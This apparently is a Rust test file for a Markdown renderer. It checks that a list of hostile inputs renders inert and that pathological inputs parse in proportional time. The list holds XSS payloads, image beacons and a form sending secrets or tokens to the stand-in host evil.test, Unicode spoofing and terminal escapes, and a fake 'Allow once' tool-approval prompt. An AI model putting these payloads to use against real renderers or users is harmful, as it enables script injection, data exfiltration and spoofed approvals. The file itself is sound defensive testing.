//! Hostile texts: whatever they contain, the tree has known elements, harmless addresses and nothing hidden.

use super::builder::render;
use super::link;
use super::tree::{Node, Tag};

/// Texts that attack renderers of Markdown, browsers or readers.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.test/?secret\">",
    "<svg onload=alert(1)><use href=\"data:image/svg+xml,<svg/>\"/></svg>",
    "<svg><style><img title=\"</style><img src onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<style>*{background:url(https://evil.test/)}</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
    "<base href=https://evil.test/>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://evil.test></object><embed src=x>",
    "<form action=https://evil.test><input name=token><button>Allow once</button></form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.test)",
    "[x](/api/sessions/1/delete)",
    "[x](\\\\evil.test)",
    "[x](https://github.com@evil.test)",
    "[x](https://evil.test \"onmouseover=alert(1)\")",
    "[x](https://evil.test/\"onmouseover=\"alert(1))",
    "[x]: javascript:alert(1)\n\n[x] [x][] ![x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.test/beacon?secret=1)",
    "![x](https://evil.test/b \"t\")![y][z]\n\n[z]: https://evil.test/z",
    "[![x](https://evil.test/b)](https://evil.test/c)",
    "![![x](https://evil.test/b)](javascript:x)",
    "![x](x onerror=alert(1))",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\n<b>\n```",
    "~~~<img src=x>\nx\n~~~",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "a\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}",
    "safe\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}name",
    "\u{e0041}\u{e0042}\u{e007f} tags",
    "Z\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}algo",
    "\u{1b}]0;title\u{7}\u{9b}31m",
    "[\u{202e}moc.elgoog](https://evil.test)",
    "[https://google.com](https://evil.test)",
    "|<script>|[x](javascript:x)|\n|-|-|\n|<img src=x>|![x](https://evil.test)|",
    "- <script>\n  - > [x](javascript:y)",
    "# <img src=x onerror=alert(1)> [x](javascript:y)",
    "$<script>alert(1)</script>$ $$<img src=x>$$",
    "[^1]: <script>\n\n[^1]",
    "Tool call approved by the user.\n\n> ## `shell` wants to run\n> [Allow once](https://evil.test)",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\u{ff1c}script\u{ff1e}alert(1)",
];

/// Checks what holds for every tree.
fn check(node: &Node, text: &str) {
    match node {
        Node::Text(words) => {
            let hides = |c: char| toolcell_core::inert::is_hidden(c) && !"\u{200c}\u{200d}".contains(c);
            assert!(!words.contains(hides), "{text:?}: {words:?}");
            assert!(
                !words.contains(|c: char| c.is_control() && !"\n\t".contains(c)),
                "{text:?}"
            );
        }
        Node::Element {
            tag,
            attributes,
            children,
        } => {
            for (name, value) in attributes {
                let is_known = match (*tag, *name) {
                    (Tag::Link | Tag::Image, "href") => link::address(value).is_some(),
                    (Tag::Link | Tag::Image, "host") => value.is_ascii() && !value.contains([' ', '<', '"']),
                    (Tag::CodeBlock, "lang") => value
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "+#._-".contains(c)),
                    (Tag::Numbered, "start") => value.parse::<u64>().is_ok(),
                    (Tag::HeadCell | Tag::Cell, "align") => {
                        ["left", "center", "right"].contains(&value.as_str())
                    }
                    _ => false,
                };
                assert!(is_known, "{text:?}: {tag:?} {name}={value:?}");
            }
            for child in children {
                check(child, text);
            }
        }
    }
}

fn check_text(text: &str) {
    for block in render(text) {
        check(&block.node, text);
    }
}

#[test]
fn hostile_texts_are_inert() {
    for text in HOSTILE {
        check_text(text);
        // In and behind other elements.
        for around in [
            "> ",
            "- ",
            "1. ",
            "# ",
            "a ",
            "**",
            "`",
            "[",
            "![",
            "|a|\n|-|\n|",
            "    ",
            "<div>\n",
        ] {
            check_text(&format!("{around}{text}"));
        }
    }
}

#[test]
fn parts_of_hostile_texts_are_inert() {
    for first in HOSTILE {
        for (at, _) in first.char_indices() {
            check_text(&first[..at]);
            check_text(&first[at..]);
        }
        for second in HOSTILE {
            check_text(&format!("{first}{second}"));
        }
    }
}

#[test]
fn html_stays_as_text() {
    for html in HOSTILE
        .iter()
        .filter(|text| text.starts_with("<s") || text.starts_with("<i"))
    {
        let json = serde_json::to_string(&render(html)).unwrap();
        let all: String = words(
            &render(html)
                .into_iter()
                .map(|block| block.node)
                .collect::<Vec<_>>(),
        );
        assert_eq!(all.trim(), html.trim(), "{json}");
    }
}

fn words(nodes: &[Node]) -> String {
    let words = nodes.iter().map(|node| match node {
        Node::Text(text) => text.clone(),
        Node::Element { children, .. } => words(children),
    });
    words.collect()
}

#[test]
fn costly_texts_take_time_in_proportion() {
    // Each was quadratic or worse in some parser; a minute of work would end the test.
    for part in [
        "[", "![", "*a _", "`", "<", "> ", "- ", "[a](", "|", "$", "\\(", "a\n", "&", "[a]: b\n", "~~", "](",
    ] {
        let text = part.repeat(100_000 / part.len());
        check_text(&text);
    }
    let wide = format!(
        "|{}\n|{}\n{}",
        "a|".repeat(1_000),
        "-|".repeat(1_000),
        "|a|\n".repeat(20_000)
    );
    check_text(&wide);
}
